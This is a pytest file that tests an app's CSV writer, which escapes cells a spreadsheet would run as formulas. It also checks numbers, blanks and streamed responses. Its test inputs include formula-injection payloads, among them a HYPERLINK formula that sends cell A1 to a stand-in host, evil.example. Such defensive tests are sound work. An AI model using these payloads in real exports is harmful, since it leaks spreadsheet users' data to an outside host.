"""One CSV writer for the whole app (districts.csvfiles): a cell a spreadsheet would run as a
formula is written as text, numbers stay numbers."""

import csv
import io

import pytest

from districts.csvfiles import csv_cell, csv_response, csv_text


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+1 (919) 555-0100", "'+1 (919) 555-0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        (-2, -2),
        (0.25, 0.25),
        ("Rivera", "Rivera"),
        ("", ""),
        (None, ""),
    ],
)
def test_formula_cells_are_escaped_and_numbers_are_not(value, written):
    assert csv_cell(value) == written


def test_the_text_and_the_streamed_response_escape_every_row():
    header, rows = ["name", "note"], [["=evil()", "fine"], ["Ann", "@bad"]]
    assert list(csv.reader(io.StringIO(csv_text(header, rows)))) == [header, ["'=evil()", "fine"], ["Ann", "'@bad"]]
    response = csv_response("x.csv", header, rows)
    streamed = b"".join(response.streaming_content).decode()
    assert list(csv.reader(io.StringIO(streamed)))[1] == ["'=evil()", "fine"]
    assert response["Cache-Control"] == "no-store" and response["Content-Disposition"] == 'attachment; filename="x.csv"'
